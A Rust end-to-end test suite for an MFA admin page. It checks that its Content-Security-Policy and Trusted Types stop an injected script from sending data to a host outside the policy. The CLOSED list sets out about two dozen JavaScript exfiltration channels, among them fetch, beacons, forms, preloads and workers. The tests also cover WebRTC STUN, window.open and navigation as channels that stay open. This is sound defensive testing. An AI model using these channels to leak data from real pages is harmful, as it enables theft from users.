//! Assumes the worst case: a malicious script runs in the page's realm. Tests what it can send to a
//! host that the policy doesn't allow.

use std::time::Duration;

use pingone_mfa_e2e::{Page, Portal, TrafficLog, World};
use pingone_sandbox::TokenSpec;
use pingone_sandbox::page::config_json;
use serde_json::{Value, json};

/// Attempts that the policy blocks. `url` is an address on the host. None of them leaves
/// the page, so they can run in a row.
const CLOSED: [(&str, &str); 22] = [
    ("fetch", "fetch(url, { mode: 'no-cors' })"),
    ("fetch-keepalive", "fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })"),
    ("xhr", "const request = new XMLHttpRequest(); request.open('GET', url); request.send();"),
    ("beacon", "navigator.sendBeacon(url, 'x')"),
    ("image", "new Image().src = url"),
    ("websocket", "new WebSocket(url.replace('http', 'ws'))"),
    ("eventsource", "new EventSource(url)"),
    (
        "form",
        "const frame = add('iframe', { name: 'sink' }); add('form', { action: url, method: 'post', target: 'sink' }).submit();",
    ),
    ("prefetch", "add('link', { rel: 'prefetch', href: url })"),
    ("preload", "add('link', { rel: 'preload', as: 'image', href: url })"),
    ("modulepreload", "add('link', { rel: 'modulepreload', href: url })"),
    ("stylesheet", "add('link', { rel: 'stylesheet', href: url })"),
    (
        "css-url",
        "const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { background-image: url(${url}) }`); document.adoptedStyleSheets = [sheet];",
    ),
    ("font", "new FontFace('sink', `url(${url})`).load()"),
    ("script", "add('script', { src: url })"),
    ("import", "import(url)"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`])))"),
    ("iframe", "add('iframe', { src: url })"),
    ("object", "add('object', { data: url })"),
    ("embed", "add('embed', { src: url })"),
    ("video", "add('video', { src: url, preload: 'auto' }).load()"),
    ("ping", "add('a', { href: '#', ping: url }).click()"),
];

/// Attempts that no policy blocks in any browser: a script in the page's realm can navigate elsewhere.
const OPEN: [(&str, &str); 2] = [("window-open", "window.open(url)"), LEAVING];

/// Delayed, because the test waits for the script's result.
const LEAVING: (&str, &str) = ("navigation", "setTimeout(() => { location.href = url; }, 300)");

const ADD: &str = "const add = (name, attributes) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      if (key in element) element[key] = value; else element.setAttribute(key, value);
    }
    return document.body.appendChild(element);
  };";

/// Runs one attempt. Exceptions and refusals are ignored: only what arrives at the host counts.
async fn attempt(page: &Page, traffic_log: &TrafficLog, (name, code): (&str, &str)) {
    let script = format!(
        "const [origin, done] = arguments; const url = `${{origin}}/{name}`; {ADD}
        setTimeout(done, 150);
        (async () => {{ {code} }})().catch(() => {{}});"
    );
    page.ask(&script, vec![json!(traffic_log.origin)]).await.expect("the script runs");
}

async fn attempt_all(page: &Page, traffic_log: &TrafficLog) {
    for closed in CLOSED {
        attempt(page, traffic_log, closed).await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
}

/// Sends a STUN request to the host, as a `WebRTC` call would.
async fn connect_call(page: &Page, traffic_log: &TrafficLog) {
    let script = "const [host, done] = arguments; setTimeout(done, 2500);
        const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
        call.createDataChannel(''); call.setLocalDescription();";
    page.ask(script, vec![json!(traffic_log.datagrams)]).await.expect("the script runs");
}

/// Control: without a policy the host records every attempt. Otherwise the tests below would prove nothing.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_policy_every_attempt_arrives() {
    let world = World::with_users(1).await;
    let page = world.visit(&world.bare_page().await).await;
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    let lost: Vec<_> =
        CLOSED.iter().map(|(name, _)| *name).filter(|name| traffic_log.arrivals(name) == 0).collect();
    assert_eq!(lost, Vec::<&str>::new(), "arrived: {:?}", traffic_log.asked());
    connect_call(&page, &traffic_log).await;
    assert!(traffic_log.datagrams() > 0, "a call's datagrams arrive at {}", traffic_log.datagrams);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_cannot_send_to_a_host_outside_the_policy() {
    let world = World::with_users(5).await;
    let page = world.open().await;
    page.connect(&world.token(&TokenSpec::default())).await;
    page.hear("5 users · read").await;
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
    // The page still works, and the policy was what blocked the attempts.
    page.press("switch", "MFA for jonas.brandt").await;
    page.wait_for_switch("MFA for jonas.brandt", true).await;
    let refusals = world.complaints(false).await;
    for directive in ["connect-src", "img-src", "style-src", "script-src", "frame-src", "default-src"] {
        assert!(refusals.iter().any(|line| line.contains(directive)), "{directive} in {refusals:#?}");
    }
    assert!(refusals.iter().any(|line| line.contains("TrustedScriptURL")), "{refusals:#?}");
}

/// The open ways listed in SECURITY.md are still open. Fails when a browser starts to block one.
#[tokio::test(flavor = "multi_thread")]
async fn the_ways_that_no_policy_can_block_are_the_documented_ones() {
    let world = World::with_users(1).await;
    let page = world.open().await;
    page.see("password", "Access token").await;
    let traffic_log = TrafficLog::listen();
    connect_call(&page, &traffic_log).await;
    assert!(traffic_log.datagrams() > 0, "WebRTC obeys the policy now: change SECURITY.md");
    // The name is resolved and a connection is made, but no request is sent. A blocked frame can have the same effect.
    let before = traffic_log.connections();
    attempt(&page, &traffic_log, ("preconnect", "add('link', { rel: 'preconnect', href: url })")).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert!(traffic_log.connections() > before, "preconnect is blocked now: change SECURITY.md");
    assert_eq!(traffic_log.arrivals("preconnect"), 0);
    for open in OPEN {
        attempt(&page, &traffic_log, open).await;
        tokio::time::sleep(Duration::from_secs(1)).await;
        assert!(traffic_log.arrivals(open.0) > 0, "{} is blocked now: change SECURITY.md", open.0);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_frame_cannot_send_or_navigate_away() {
    let portal = Portal::new().await;
    let origin = portal.origin.clone();
    let ancestors = serde_json::to_string(&[&origin]).expect("a list has a JSON form");
    let keys = format!(r#"{{"frameAncestors":{ancestors},"tokenSources":["host"],"#);
    let world = World::start(5, move |api| config_json(api).replacen('{', &keys, 1)).await;
    let policy = "Content-Security-Policy: frame-ancestors";
    world.release.rewrite_headers(&format!("{policy} 'none'"), &format!("{policy} {origin}"));
    let backend = portal.serve(&world, |script| script);
    backend.give(&world.token(&TokenSpec::default()));
    let page = world.visit(&origin).await;
    page.enter_frame().await;
    page.hear("5 users · read").await;
    assert_eq!(page.ask(TRUSTED, vec![]).await.expect("the script runs"), all_true());
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
    // The portal's frame-src keeps the frame from navigating away.
    attempt(&page, &traffic_log, LEAVING).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
}

/// Script that checks Trusted Types: only one policy may create script URLs, and only the clock worker's.
const TRUSTED: &str = "const [done] = arguments;
    const refused = (attempt) => { try { attempt(); return false; } catch (problem) { return problem instanceof TypeError; } };
    done({
      html: refused(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
      write: refused(() => document.write('text')),
      worker: refused(() => new Worker('tick.js')),
      script: refused(() => { document.createElement('script').src = 'boot.js'; }),
      another: refused(() => trustedTypes.createPolicy('another', {})),
      default: refused(() => trustedTypes.createPolicy('default', {})),
      again: refused(() => trustedTypes.createPolicy('pingone-mfa', {})),
      noDefault: trustedTypes.defaultPolicy === null,
    });";

fn all_true() -> Value {
    let names = ["html", "write", "worker", "script", "another", "default", "again", "noDefault"];
    names
        .into_iter()
        .map(|name| (name.to_owned(), Value::Bool(true)))
        .collect::<serde_json::Map<_, _>>()
        .into()
}

#[tokio::test(flavor = "multi_thread")]
async fn text_cannot_become_code_and_no_second_policy_can_be_created() {
    let world = World::with_users(1).await;
    let page = world.open().await;
    page.see("password", "Access token").await;
    assert_eq!(page.ask(TRUSTED, vec![]).await.expect("the script runs"), all_true());
    let bare = world.visit(&world.bare_page().await).await;
    let results = bare.ask(TRUSTED, vec![]).await.expect("the script runs");
    assert_eq!(results["html"], Value::Bool(false), "without the policy nothing is refused: {results}");
}
